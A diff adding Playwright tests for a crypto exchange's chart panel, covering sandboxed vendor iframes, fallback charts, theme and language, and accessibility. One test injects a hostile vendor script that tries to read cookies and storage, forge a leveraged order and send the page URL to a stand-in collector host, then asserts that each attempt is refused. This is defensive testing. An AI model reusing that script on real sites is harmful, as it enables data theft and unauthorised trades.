@@ -1,0 +1,182 @@
+import { violations } from '../support/axe.ts'
+import { expect, openTrading, test, type Page } from '../support/exchange.ts'
+import { asked, MARKETS, ORDERS, trading, WALLETS } from '../support/trading.ts'
+import { tapLine } from '../walks/walkStage.ts'
+
+const WIDGET = '**/charts/widget.js'
+const frameElement = (page: Page) => page.locator('iframe[title="Price chart of BTCUSDC"]')
+const ownChart = (page: Page) => page.getByRole('application', { name: /^Chart of BTCUSDC\. In/ })
+const kinds = (page: Page) => page.getByRole('radiogroup', { name: 'Kind of chart' })
+
+/** The document that loads the third party's script. */
+async function chartHost(page: Page) {
+  await expect(frameElement(page)).toBeVisible()
+  const frame = await (await frameElement(page).elementHandle())?.contentFrame()
+  if (!frame) throw new Error('the chart has no frame')
+  return frame
+}
+
+/** The vendor's picture has come: nothing stands before it any more. */
+async function expectVendorChart(page: Page) {
+  await expect(page.getByRole('region', { name: 'Price chart' }).getByText('Loading the chart')).toHaveCount(0)
+  await expect(frameElement(page)).toHaveCSS('opacity', '1')
+}
+
+test('the vendor’s chart lives in a frame of an origin of its own, with market, interval, zone, theme and language', async ({ page, exchange }) => {
+  await openTrading(page, exchange)
+  await expectVendorChart(page)
+  await expect(frameElement(page)).toHaveAttribute('sandbox', 'allow-scripts allow-popups allow-popups-to-escape-sandbox')
+  const host = await chartHost(page)
+  expect(await host.evaluate(() => window.origin)).toBe('null')
+  const inner = host.childFrames()[0]
+  expect(Object.fromEntries(new URL(inner?.url() ?? '').searchParams)).toEqual({
+    symbol: 'BTCUSDC', interval: '1', timezone: 'Etc/UTC', theme: 'dark', locale: 'en',
+  })
+
+  await page.getByRole('button', { name: 'Switch to the light theme' }).click()
+  await page.getByRole('radiogroup', { name: 'Language' }).getByText(/^PL/).click()
+  await expect.poll(() => page.frames().map((frame) => frame.url()).filter((url) => url.includes('/charts/frame'))).toEqual([
+    expect.stringMatching(/theme=light.*locale=pl/),
+  ])
+})
+
+/** The browser has had nothing to do, twice. */
+const atRest = (page: Page) =>
+  page.evaluate(async () => {
+    for (let turn = 0; turn < 2; turn++) await new Promise((resolve) => requestIdleCallback(resolve))
+  })
+
+for (const path of [ORDERS, WALLETS])
+  test(`no chart starts before there is an answer to ${path}`, async ({ page, exchange }) => {
+    const line = await tapLine(page)
+    line.hold(path)
+    await openTrading(page, exchange)
+    await expect(trading(page).price).toContainText(/\d/)
+    await atRest(page)
+    await expect(frameElement(page)).toHaveCount(0)
+    await line.release(path)
+    await expectVendorChart(page)
+  })
+
+test('refreshes leave the vendor’s frame as it is', async ({ page, exchange }) => {
+  await openTrading(page, exchange)
+  await expectVendorChart(page)
+  const host = await chartHost(page)
+  await host.evaluate(() => Object.assign(window, { isTheSame: true }))
+  for (let refresh = 0; refresh < 3; refresh++) await page.waitForResponse(`**${MARKETS}`)
+  expect(await host.evaluate(() => 'isTheSame' in window)).toBe(true)
+  expect(await (await chartHost(page)).evaluate(() => 'isTheSame' in window)).toBe(true)
+})
+
+test('a blocked vendor script gives way to our own chart, with the lines of the open positions', async ({ page, exchange }) => {
+  let blocked = true
+  await page.route(WIDGET, (route) => (blocked ? route.abort('blockedbyclient') : route.continue()))
+  await openTrading(page, exchange)
+  await expect(page.getByText('The full chart did not load.')).toBeVisible()
+  await expect(ownChart(page)).toBeVisible()
+  for (const line of ['Entry LONG', 'SL LONG', 'TP LONG']) await expect(ownChart(page).getByText(line, { exact: true }).first()).toBeVisible()
+  await expect(frameElement(page)).toHaveCount(0)
+
+  blocked = false
+  await page.getByRole('region', { name: 'Price chart' }).getByRole('button', { name: 'Try again' }).click()
+  await expectVendorChart(page)
+  await expect(ownChart(page)).toHaveCount(0)
+})
+
+test('a vendor script that never comes gives way to our own chart after a few seconds', async ({ page, exchange }) => {
+  await page.route(WIDGET, () => {})
+  await openTrading(page, exchange)
+  await expect(page.getByText('Loading the chart')).toBeVisible()
+  await expect(ownChart(page)).toBeVisible()
+  await expect(page.getByText('The full chart did not load.')).toBeVisible()
+})
+
+test('the choice of chart is kept, and the simple one loads nothing of the vendor', async ({ page, exchange }) => {
+  await openTrading(page, exchange)
+  await kinds(page).getByText('Simple').click()
+  await expect(ownChart(page)).toBeVisible()
+
+  const foreign: string[] = []
+  page.on('request', (request) => {
+    if (request.url().includes('/charts/')) foreign.push(request.url())
+  })
+  await page.reload()
+  await expect(ownChart(page)).toBeVisible()
+  await expect(kinds(page).getByRole('radio', { name: 'Simple' })).toBeChecked()
+  expect(foreign).toEqual([])
+})
+
+test('the prices are read as a table by the keyboard alone, and the choice is kept', async ({ page, exchange }) => {
+  await openTrading(page, exchange)
+  await expectVendorChart(page)
+  await kinds(page).getByRole('radio', { name: 'Full' }).focus()
+  await page.keyboard.press('ArrowRight')
+  await expect(ownChart(page)).toBeVisible()
+  await page.keyboard.press('ArrowRight')
+
+  const table = page.getByRole('region', { name: 'Prices of BTCUSDC by the minute' })
+  await expect(table).toContainText(/minutes? between .* and .*, now .* below the high/)
+  await expect(table.getByRole('row')).not.toHaveCount(0)
+  await expect(ownChart(page)).toHaveCount(0)
+  expect(await violations(page, { include: ['.chart-panel'] })).toEqual([])
+
+  await page.reload()
+  await expect(table).toBeVisible()
+  await expect(kinds(page).getByRole('radio', { name: 'Table' })).toBeChecked()
+})
+
+/** What a vendor that turned hostile would try; each attempt tells what it got. */
+const HOSTILE = `(async () => {
+  const attempts = {
+    'the page around it': () => parent.document.title,
+    'the top page': () => { top.location.href = '/charts/stolen'; return 'navigated' },
+    cookies: () => document.cookie,
+    'local storage': () => localStorage.length,
+    'session storage': () => sessionStorage.length,
+    databases: () => indexedDB.open('x') && 'opened',
+    'an order': async () => (await fetch('/futures/api/user/orders/create', { method: 'POST', credentials: 'include', headers: { 'content-type': 'application/json' }, body: '{"market":"BTC-USDC","type":"LONG","amount":"50","leverage":10}' })).status,
+    'a beacon': async () => navigator.sendBeacon('/futures/api/user/orders/create', new Blob(['{}'])) && new Promise((resolve) => setTimeout(resolve, 300, 'queued')),
+    'an image to anywhere': () => new Promise((resolve, reject) => { const image = new Image(); image.onload = () => resolve('loaded'); image.onerror = () => reject(new Error('refused')); image.src = 'https://collector.example/?' + location.href }),
+    'a form': () => { const form = document.createElement('form'); form.method = 'post'; form.action = '/futures/api/user/orders/create'; document.body.append(form); form.submit(); return 'submitted' },
+  }
+  const got = {}
+  for (const [name, attempt] of Object.entries(attempts)) {
+    try { got[name] = String(await attempt()) } catch (error) { got[name] = 'refused' }
+  }
+  window.got = got
+})()`
+
+test('a hostile vendor script reaches neither the page, nor its storage, nor the exchange', async ({ page, exchange, troubles }) => {
+  await page.route(WIDGET, (route) =>
+    route.fulfill({ contentType: 'text/javascript', headers: { 'cross-origin-resource-policy': 'cross-origin' }, body: HOSTILE + ";window.ChartWidget = { create() { return {} } }" }),
+  )
+  const elsewhere: string[] = []
+  page.on('response', (response) => {
+    if (response.url().includes('collector.example')) elsewhere.push(response.url())
+  })
+  await openTrading(page, exchange)
+  const host = await chartHost(page)
+  await expect.poll(() => host.evaluate(() => 'got' in window)).toBe(true)
+  const got = await host.evaluate(() => (window as unknown as { got: Record<string, string> }).got)
+  for (const name of ['the page around it', 'the top page', 'cookies', 'local storage', 'session storage', 'databases', 'an order', 'an image to anywhere']) {
+    expect(got[name], name).toBe('refused')
+  }
+  await expect(page).toHaveURL(/\/futures\/market\/BTC-USDC$/)
+  expect(await asked(exchange)).toEqual([])
+  expect((await exchange.journal()).counts['/futures/api/user/orders/create']).toBeUndefined()
+  expect(elsewhere).toEqual([])
+
+  // What the browser refused it has reported; nothing else may have gone wrong.
+  const reported = /csp: (connect-src|img-src|form-action)|Content Security Policy|sandbox|Unsafe attempt|Failed to|foreign request: https:\/\/collector/
+  expect(troubles.filter((trouble) => !reported.test(trouble))).toEqual([])
+  troubles.length = 0
+})
+
+test('the newest position’s levels stand below the vendor’s chart, not over it', async ({ page, exchange }) => {
+  await openTrading(page, exchange)
+  await expectVendorChart(page)
+  const levels = page.getByRole('region', { name: 'Price chart' }).getByText(/^Entry/).locator('..')
+  await expect(levels).toHaveText(/^LONG ×20Entry 6\d\s\d{3}\.\d\dLiq\. 6\d\s\d{3}\.\d\dSL .*TP /)
+  const [frame, row] = [await frameElement(page).boundingBox(), await levels.boundingBox()]
+  expect((frame?.y ?? 0) + (frame?.height ?? 0)).toBeLessThanOrEqual(row?.y ?? 0)
+})
